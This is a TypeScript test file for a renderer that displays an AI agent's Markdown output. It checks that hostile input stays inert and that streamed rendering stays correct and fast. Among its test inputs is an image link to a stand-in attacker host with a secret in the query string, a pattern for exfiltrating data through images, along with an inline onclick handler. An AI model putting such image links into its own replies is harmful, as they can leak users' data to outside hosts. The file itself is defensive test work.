import { describe, expect, it } from "vitest";
import { Markdown, picture, plain } from "../src/markdown";
import { expectHarmless, HOSTILE } from "./hostile";

const render = (text: string, open = false) => { const m = new Markdown(); m.update(text, open); return m.node; };
describe("an agent's markdown", () => {
  it.each(HOSTILE)("is harmless: %s", (text) => {
    expectHarmless(render(text));
    expectHarmless(render(`- a\n  ${text}\n\n> ${text}\n\n| ${text.replaceAll("\n", " ")} |\n|---|\n| x |`));
    for (const p of plain(text)) expectHarmless(p);
  });

  it.each(HOSTILE)("is harmless at every moment while it streams: %s", (text) => {
    const m = new Markdown();
    for (let i = 1; i <= text.length; i += Math.max(1, Math.floor(text.length / 8))) { m.update(text.slice(0, i), true); expectHarmless(m.node); }
  });

  it("shows raw HTML as text", () => {
    expect(render("a <b onclick=x>bold</b> c").textContent?.trim()).toBe("a <b onclick=x>bold</b> c");
    expect(render("<div class='hm-frame'>Allow</div>").querySelector("div.hm-frame")).toBeNull();
  });

  it("keeps what is harmless", () => {
    const node = render("# Title\n\n**b** *i* ~~s~~ `c` [l](https://e.org/a?b=1&c=2)\n\n1. x\n2. y\n\n- [x] done\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```python\nx = 1\n```\n");
    for (const selector of ["h1", "strong", "em", "del", "code", "ol > li", "li > input[disabled]", "table td", ".hm-well pre code .hm-n"]) expect(node.querySelector(selector), selector).not.toBeNull();
    expect(node.querySelector("a")?.getAttribute("href")).toBe("https://e.org/a?b=1&c=2");
  });

  it("loads no remote picture before a click, and says where it would come from", () => {
    const node = render("![the cat](https://evil.example/cat.png?secret=1)");
    expect(node.querySelector("img")).toBeNull();
    const ask = node.querySelector("button") as HTMLButtonElement;
    expect(ask.textContent).toBe("image “the cat” from evil.example (click to show)");
    document.body.append(node);
    ask.click();
    expect(node.querySelector("img")?.getAttribute("src")).toBe("https://evil.example/cat.png?secret=1");
    expect(node.querySelector("img")?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("shows pictures whose data is there, but no svg", () => {
    expect(render("![x](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")).not.toBeNull();
    expect(picture("data:image/svg+xml;base64,PHN2Zz4=", "x").tagName).toBe("SPAN");
  });

  it("shows what turns the text around", () => {
    expect([...render("a \u202e b").querySelectorAll(".hm-esc")].map((e) => e.textContent)).toEqual(["U+202E"]);
  });
});

describe("a message that grows", () => {
  const parts = ["# One\n\n", "Two *three* ", "four.\n\n1. a\n", "2. b\n\n", "3. c\n\n```py\n", "x = 1\n", "\n\ny = 2\n", "```\n\n", "| a | b |\n|--|", "--|\n| 1 | 2 |\n", "\n> q\n> r\n\n", "see [it][1]\n\n", "[1]: https://e.org\n\nend"];

  it("ends as if it had come whole", () => {
    const m = new Markdown();
    let text = "";
    for (const part of parts) { text += part; m.update(text, true); }
    m.update(text, false);
    expect(m.node.innerHTML).toBe(render(text).innerHTML);
  });

  it("ends as if it had come whole, cut anywhere, with Windows line ends too", () => {
    for (const text of [parts.join(""), parts.join("").replaceAll("\n", "\r\n")]) {
      const m = new Markdown();
      for (let i = 1; i <= text.length; i += 9) m.update(text.slice(0, i), true);
      m.update(text, false);
      expect(m.node.innerHTML).toBe(render(text).innerHTML);
    }
  });

  it("leaves finished blocks alone", () => {
    const m = new Markdown();
    let text = "";
    for (let i = 0; i < 30; i += 1) { text += `paragraph ${i}\n\n`; m.update(text, true); }
    const kept = [...m.node.children].slice(0, 28);
    m.update(`${text}and on`, true);
    expect([...m.node.children].slice(0, 28)).toEqual(kept);
    expect(kept.every((el, i) => m.node.children[i] === el)).toBe(true);
  });

  it("costs about as much at the end of a long message as at its start", () => {
    const cost = (paragraphs: number) => {
      const m = new Markdown();
      let text = Array.from({ length: paragraphs }, (_, i) => `paragraph ${i} with *some* words\n\n`).join("");
      m.update(text, true);
      const times = Array.from({ length: 15 }, () => {
        text += " word";
        const before = performance.now();
        m.update(text, true);
        return performance.now() - before;
      });
      return times.sort((x, y) => x - y)[7] as number;
    };
    const short = cost(3);
    expect(cost(300)).toBeLessThan(short * 4 + 5);
  });
});
